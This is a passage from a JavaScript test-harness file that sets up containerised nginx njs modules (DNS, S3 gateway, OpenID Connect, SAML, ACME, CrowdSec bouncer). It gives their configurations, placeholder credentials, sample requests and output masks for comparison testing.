      { raw: framed(dnsQuery('www.hole.org')), port: 553 },
      { raw: framed(dnsQuery('example.com')), port: 553 },
      { path: `/dns-query?dns=${Buffer.from(dnsQuery('example.com'), 'latin1').toString('base64url')}`, port: 80 },
      { ...post('/dns-query', 'application/dns-message', dnsQuery('example.com')), port: 80 },
    ],
  },
  {
    name: 'nginx-dns: load balancing',
    repository: 'TuxInvader/nginx-dns',
    files: { '/etc/nginx/njs.d': 'njs.d' },
    texts: {
      [conf]:
        'stream { js_context_reuse 0; js_import /etc/nginx/njs.d/dns/dns.js; js_import glb from /etc/nginx/njs.d/dns/glb.js; js_set $name dns.get_qname; server { listen 553; js_preread dns.preread_dns_request; return "$name"; } }',
    },
    auto: false,
    requests: [
      { raw: framed(dnsQuery('www.example.com')), port: 553 },
      { raw: framed(dnsQuery('a.b.c.d.example.com')), port: 553 },
    ],
  },
  { name: 'nginx-s3-gateway, signature 4', repository: 'nginxinc/nginx-s3-gateway', ...s3('4') },
  { name: 'nginx-s3-gateway, signature 2', repository: 'nginxinc/nginx-s3-gateway', ...s3('2') },
  {
    name: 'nginx-openid-connect',
    repository: 'nginxinc/nginx-openid-connect',
    files: { '/etc/nginx/oidc.js': 'openid_connect.js' },
    texts: { [conf]: openid() },
    requests: ['/', '/_codexch?code=a&state=0', '/_codexch?error=x', '/logout', '/_logout', get('/', { Cookie: 'auth_token=abc' })],
    mask: ['nonce=[\\w-]*', 'state=[\\w-]*', 'auth_nonce=[^;]*', 'auth_token=[^;]*', 'redir=[^;]*'],
  },
  {
    name: 'nginx-saml',
    repository: 'nginxinc/nginx-saml',
    files: { '/etc/nginx/saml_sp.js': 'saml_sp.js' },
    texts: { [conf]: saml() },
    auto: false,
    requests: [
      '/',
      post(
        '/saml/acs',
        'application/x-www-form-urlencoded',
        `SAMLResponse=${encodeURIComponent(Buffer.from('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"/>').toString('base64'))}`,
      ),
      post('/saml/acs', 'application/x-www-form-urlencoded', 'x=1'),
      '/saml/acs',
      '/logout',
      '/saml/sls?SAMLRequest=abc',
    ],
    // What libxml2 and zlib say is theirs.
    mask: [
      '\\(engine\\)(?:<[^(]*\\(engine\\))?',
      'GET request: (?:failed|unexpected)[^*]*\\*',
      'SAMLRequest=[^&" ]*',
      'ID="[^"]*"',
      'value="[^"]*"',
      '_[0-9a-f]{32,}',
    ],
  },
  {
    name: 'njs-acme',
    repository: 'nginx/njs-acme',
    files: { '/usr/lib/nginx/njs_modules/acme.js': 'dist/acme.js' },
    texts: { [conf]: acme() },
    requests: ['/.well-known/acme-challenge/abcdefghijklmnopqrstuvwxyz', '/'],
    auto: false,
  },
  {
    name: 'crowdsec bouncer',
    repository: 'crowdsecurity/cs-nginx-njs-bouncer',
    files: { '/var/lib/crowdsec/njs/crowdsec.js': 'lib/crowdsec.js' },
    texts: { [conf]: crowdsec(), '/etc/crowdsec/bouncers/crowdsec-nginx-njs-bouncer.json': crowdsecSettings() },
    auto: false,
    backends: {
      ports: [8080],
      answers: {
        '/v1/decisions/stream': {
          body: '{"new":[{"id":1,"origin":"x","type":"ban","scope":"Ip","value":"9.9.9.9","duration":"4h","scenario":"s"}],"deleted":null}',
        },
      },
    },
    requests: [
      '/',
      get('/', { 'X-Forwarded-For': '9.9.9.9' }),
      post('/crowdsec_captcha_submission_handler', 'application/x-www-form-urlencoded', 'g-recaptcha-response=x'),
    ],
  },
];

function s3(version) {
  const common = 'common/etc/nginx/include';
  return {
    files: { '/etc/nginx/include': common },
    env: {
      AWS_ACCESS_KEY_ID: 'key',
      AWS_SECRET_ACCESS_KEY: 'secret',
      S3_BUCKET_NAME: 'bucket',
      S3_SERVER: 's3',
      S3_SERVER_PORT: '8080',
      S3_SERVER_PROTO: 'http',
      S3_REGION: 'us-east-1',
      S3_STYLE: 'path',
      S3_SERVICE: 's3',
      ALLOW_DIRECTORY_LIST: 'true',
      PROVIDE_INDEX_PAGE: 'true',
      APPEND_SLASH_FOR_POSSIBLE_DIRECTORY: 'false',
      AWS_SIGS_VERSION: version,
      CORS_ENABLED: '0',
      DEBUG: '0',
      HEADER_PREFIXES_TO_STRIP: 'x-amz-',
      HEADER_PREFIXES_ALLOWED: '',
      FOUR_O_FOUR_ON_EMPTY_BUCKET: 'true',
      STATIC_SITE_HOSTING: '',
    },
    hosts: ['s3'],
    texts: {
      [conf]: `${['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'S3_BUCKET_NAME', 'S3_SERVER', 'S3_SERVER_PORT', 'S3_SERVER_PROTO', 'S3_REGION', 'S3_STYLE', 'S3_SERVICE', 'ALLOW_DIRECTORY_LIST', 'PROVIDE_INDEX_PAGE', 'APPEND_SLASH_FOR_POSSIBLE_DIRECTORY', 'AWS_SIGS_VERSION', 'CORS_ENABLED', 'DEBUG', 'HEADER_PREFIXES_TO_STRIP', 'HEADER_PREFIXES_ALLOWED', 'FOUR_O_FOUR_ON_EMPTY_BUCKET', 'STATIC_SITE_HOSTING'].map((name) => `env ${name};`).join('\n')}
http { js_import /etc/nginx/include/awscredentials.js; js_import /etc/nginx/include/s3gateway.js;
  js_set $uri_full_path s3gateway.uriFullPath; js_set $awsDate s3gateway.awsHeaderDate; js_set $s3auth s3gateway.s3auth; js_set $s3uri s3gateway.s3uri; js_set $httpHost s3gateway.s3date; js_var $indexIsEmpty true; js_var $forIndexPage true; js_var $cache_instance_credentials_enabled 0; js_var $cache_signing_key_enabled 0; js_var $request_uri_x; js_set $isDir s3gateway.trailslashControl;
  server { listen 80; error_page 404 = @trailslash;
    location / { auth_request /aws/credentials/retrieve; js_content s3gateway.redirectToS3; }
    location /aws/credentials/retrieve { internal; js_content awscredentials.fetchCredentials; }
    location @s3 { internal; js_header_filter s3gateway.editHeaders; proxy_set_header Authorization $s3auth; proxy_set_header X-Amz-Date $awsDate; proxy_pass http://s3:8080$s3uri; }
    location @s3PreListing { internal; js_header_filter s3gateway.editHeaders; proxy_set_header Authorization $s3auth; proxy_pass http://s3:8080$s3uri; js_content s3gateway.loadContent; }
    location @s3Listing { internal; js_body_filter s3gateway.filterListResponse; proxy_pass http://s3:8080$s3uri; }
    location @trailslash { internal; return 302 $uri/; }
    location /date { return 200 "$s3uri"; }
  } }`,
    },
    requests: ['/a.txt', '/dir/', '/ä b/c+d.txt?x=1', '/'],
    mask: ['Signature=[0-9a-f]+', '\\d{8}T\\d{6}Z', '\\d{8}/us-east-1', 'AWS key:[\\w+/=]*', date],
  };
}

function openid() {
  return `http { resolver 127.0.0.11; js_import oidc from oidc.js; js_var $internal_error_message; js_var $session_jwt ""; js_var $refresh_token ""; js_var $new_session ""; js_var $new_refresh ""; js_var $new_access_token ""; js_var $access_token ""; js_var $oidc_debug "1";
  js_set $requestid_hash oidc.hashRequestId; js_set $header_token oidc.validateIdToken;
  map $host $oidc_authz_endpoint { default "http://idp/auth"; } map $host $oidc_token_endpoint { default "http://idp/token"; } map $host $oidc_jwt_keyfile { default "http://idp/keys"; } map $host $oidc_end_session_endpoint { default ""; } map $host $oidc_client { default "client"; } map $host $oidc_client_secret { default "secret"; } map $host $oidc_scopes { default "openid"; } map $host $oidc_pkce_enable { default 0; } map $host $oidc_client_auth_method { default "client_secret_post"; } map $host $oidc_logout_redirect { default "/_logout"; } map $host $oidc_hmac_key { default "key"; } map $host $oidc_authz_extra_args { default ""; } map $host $oidc_authz_path_params_enable { default 0; } map $host $oidc_logout_query_params_enable { default 0; } map $host $zone_sync_leeway { default 0; } map $host $oidc_cookie_flags { default "Path=/; SameSite=lax;"; } map $host $redirect_base { default "http://$host"; } map $host $redir_location { default "/_codexch"; } map $host $pkce_id { default ""; }
  server { listen 80; location / { error_page 401 = @do_oidc_flow; auth_request /check; proxy_pass http://app:8080; } location = /check { internal; if ($cookie_auth_token) { return 204; } return 401; }
  location @do_oidc_flow { js_content oidc.auth; } location = /_codexch { js_content oidc.codeExchange; } location = /logout { js_content oidc.logout; } location = /_logout { return 200 out; } location = /_token { internal; return 200 '{"id_token":"${token}"}'; } location = /_refresh { internal; return 400; } location = /_id_token_validation { internal; return 204; } } }`.replaceAll(
    'app:8080',
    '10.9.0.2:8080',
  );
}

function saml() {
  const maps = {
    saml_sp_entity_id: 'https://sp',
    saml_sp_acs_url: 'https://sp/saml/acs',
    saml_sp_request_binding: 'HTTP-POST',
    saml_sp_sign_authn: 'false',
    saml_sp_signing_key: '',
    saml_sp_decryption_key: '',
    saml_sp_force_authn: 'true',
    saml_sp_nameid_format: 'unspecified',
    saml_sp_relay_state: '',
    saml_sp_want_signed_response: 'false',
    saml_sp_want_signed_assertion: 'false',
    saml_sp_want_encrypted_assertion: 'false',
    saml_idp_entity_id: 'https://idp',
    saml_idp_sso_url: 'https://idp/sso',
    saml_idp_verification_certificate: '',
    saml_sp_slo_url: 'https://sp/saml/sls',
    saml_sp_slo_binding: 'HTTP-POST',
    saml_sp_sign_slo: 'false',
    saml_idp_slo_url: 'https://idp/slo',
    saml_sp_want_signed_slo: 'false',
    saml_logout_landing_page: '/_logout',
    saml_logout_redirect: '/_logout',
    saml_cookie_flags: 'Path=/;',
    saml_debug: '0',
    redirect_base: 'http://sp',
  };
  const variables = [
    'saml_request_id',
    'saml_response_id',
    'saml_request_redeemed',
    'saml_response_redeemed',
    'saml_access_granted',
    'saml_name_id',
    'saml_name_id_format',
    'saml_session_index',
    'saml_authn_context_class_ref',
    'saml_attrib_uid',
    'internal_error_message',
    'internal_error_details',
  ];
  return `http { js_import samlsp from saml_sp.js; ${Object.entries(maps)
    .map(([name, value]) => `map $host $${name} { default "${value}"; }`)
    .join(' ')} ${variables.map((name) => `js_var $${name};`).join(' ')}
  server { listen 80; location / { error_page 401 = @do_samlsp_flow; if ($saml_access_granted != "1") { return 401; } return 200 in; } location = /saml/acs { js_content samlsp.handleSingleSignOn; status_zone x; error_page 500 @saml_error; } location = /saml/sls { js_content samlsp.handleSingleLogout; error_page 500 @saml_error; } location @do_samlsp_flow { js_content samlsp.initiateSingleSignOn; set $cookie_auth_token ""; } location = /logout { js_content samlsp.initiateSingleLogout; } location = /_logout { return 200 out; } location @saml_error { return 500 "$internal_error_message $internal_error_details"; } } }`
    .replace('status_zone x; ', '')
    .replace('set $cookie_auth_token ""; ', '');
}

function acme() {
  return `http { js_path /usr/lib/nginx/njs_modules/; js_import acme from acme.js; resolver 127.0.0.11 ipv6=off; js_shared_dict_zone zone=acme:1m; server { listen 80; js_var $njs_acme_server_names "a.example.com"; js_var $njs_acme_account_email "a@b.c"; js_var $njs_acme_dir /tmp; js_var $njs_acme_challenge_dir /tmp; js_set $dynamic_ssl_cert acme.js_cert; js_set $dynamic_ssl_key acme.js_key; location ~ "^/\\.well-known/acme-challenge/[-_A-Za-z0-9]{22,128}$" { js_content acme.challengeResponse; } location / { return 200 "[$dynamic_ssl_cert]"; } } }`;
}

function crowdsec() {
  return `http { js_import crowdsec from /var/lib/crowdsec/njs/crowdsec.js; js_shared_dict_zone zone=crowdsec_decision_store:5M; js_shared_dict_zone zone=ip_to_country_cache:5M; js_shared_dict_zone zone=ip_to_as_cache:5M; js_preload_object crowdsec_config from /etc/crowdsec/bouncers/crowdsec-nginx-njs-bouncer.json; server { listen 80; set_real_ip_from 127.0.0.1; real_ip_header X-Forwarded-For; js_set $crowdsec_result crowdsec.getDecisionForRequest; js_set $crowdsec_ban_result crowdsec.serveBanTemplate; location / { return 200 "[$crowdsec_result]"; } location /crowdsec_captcha_submission_handler { js_content crowdsec.serveCaptchaSubmissionHandler; } } }`;
}

function crowdsecSettings() {
  return JSON.stringify({
    enabled: true,
    crowdsec_lapi_url: 'http://10.9.0.2:8080',
    crowdsec_lapi_key: 'k',
    ban_template_path: '/none',
    fallback_remediation: 'ban',
    mode: 'stream',
  });
}
